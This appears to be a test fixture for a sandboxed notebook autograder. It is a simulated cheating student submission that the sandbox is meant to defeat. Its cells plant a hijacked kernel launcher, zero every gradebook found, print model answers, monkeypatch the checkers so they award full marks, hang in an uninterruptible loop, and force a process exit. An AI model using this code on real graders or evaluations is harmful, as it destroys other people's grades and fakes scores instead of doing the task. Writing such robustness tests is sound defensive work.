"""A student who attacks the grader instead of doing the work (issue 28's three attacks).

Graded after the honest classmates (student ids sort after theirs), so a change to the
gradebook would overwrite their grades. Every attack must gain nothing:

- a file ipykernel_launcher.py beside the notebook, which nbgrader's kernel would import
  from its working folder before any cell: it is left out of grading (the kernel starts in
  an empty folder, the sandbox holds only the release's files), so it never runs;
- output_size opens every gradebook it can find, zeroes all grades, and prints every source
  notebook and model answer it can read: the sandbox sees no course directory, no checkout
  beside the package and no other /tmp, so it finds none (0/4 for its stub);
- conv_loop replaces the graders (check_value, check_array, check_shape, Checker.earned)
  in its own kernel: the checks run in the grader's process, untouched (0/4 for its stub);
- im2col and avg_pool are honestly solved: full marks (3 and 2);
- conv_im2col defines a correct function, then loops forever swallowing every interruption
  (KeyboardInterrupt, the time limit): the worker is killed and restarted without that cell,
  so only this exercise is lost (0/3);
- max_pool calls os._exit: the worker dies during its test (0/2) and the next exercise runs
  in a fresh worker.
"""
EXPECTED = {"test_output_size": 0, "test_conv_loop": 0, "test_conv_im2col": 0,
            "test_max_pool": 0}

# %% file ipykernel_launcher.py
import pathlib

pathlib.Path.cwd().joinpath("..", "..", "..", "ATTACK_LAUNCHER_RAN").write_text("ran")
from course_utils import grading

grading.check_value = grading.check_array = grading.check_shape = lambda *a, **k: None
from ipykernel import kernelapp

kernelapp.launch_new_instance()

# %% answer output_size
import glob
import pathlib
import sqlite3

import course_utils


def conv_output_size(n, kernel_size, stride=1, padding="valid", dilation=1):
    return 0


here = pathlib.Path.cwd()
checkout = pathlib.Path(course_utils.__file__).resolve().parents[1]
gradebooks = {str(p / "gradebook.db") for p in [here, *here.parents]}
gradebooks |= {str(checkout / "assignments" / "gradebook.db"),
               *glob.glob("/tmp/**/gradebook.db", recursive=True),
               *glob.glob(str(pathlib.Path.home() / "*" / "gradebook.db"))}
changed = []
for path in sorted(gradebooks):
    if pathlib.Path(path).is_file():
        try:
            connection = sqlite3.connect(path)
            connection.execute("UPDATE grade SET auto_score = 0")
            connection.commit()
            changed.append(path)
        except Exception as error:
            print("could not change", path, error)
secrets = sorted({*glob.glob("../../../source/*/*.ipynb"),
                  *glob.glob(str(checkout / "assignments" / "source" / "*" / "*.ipynb")),
                  *glob.glob(str(checkout / "tests" / "assignment_answers" / "*" / "*.py")),
                  *glob.glob("/tmp/**/source/*/*.ipynb", recursive=True)})
for path in secrets:
    print(pathlib.Path(path).read_text()[:3000])
print(f"ATTACK REPORT: gradebooks changed {len(changed)}, solution files read {len(secrets)}")

# %% answer conv_loop
from course_utils import grading
from course_utils.grading import scoring, shape_checks, values

for module in (grading, scoring, shape_checks, values):
    for name in ("check_value", "check_array", "check_shape"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: None)
scoring.Checker.earned = property(lambda self: self.possible)
grading.Checker.earned = property(lambda self: self.possible)


def conv2d_loop(x, w, b=None, *, stride=1, padding="valid"):
    return np.zeros((1, 1, 1, 1))

# %% answer conv_im2col
def conv2d_im2col(x, w, b=None, *, stride=1, padding=0):
    k, _, _, c_out = w.shape
    n, h, width, _ = x.shape
    h_out = (h + 2 * padding - k) // stride + 1
    w_out = (width + 2 * padding - k) // stride + 1
    y = im2col(x, k, stride=stride, padding=padding) @ w.reshape(-1, c_out)
    if b is not None:
        y = y + b
    return y.reshape(n, h_out, w_out, c_out)


import time

while True:                                   # cannot be interrupted
    try:
        while True:
            time.sleep(0.5)                   # (sleeping: CI's cores stay free)
    except BaseException:
        pass

# %% answer max_pool
import os


def max_pool2d(x, pool_size=2, stride=None):
    os._exit(3)
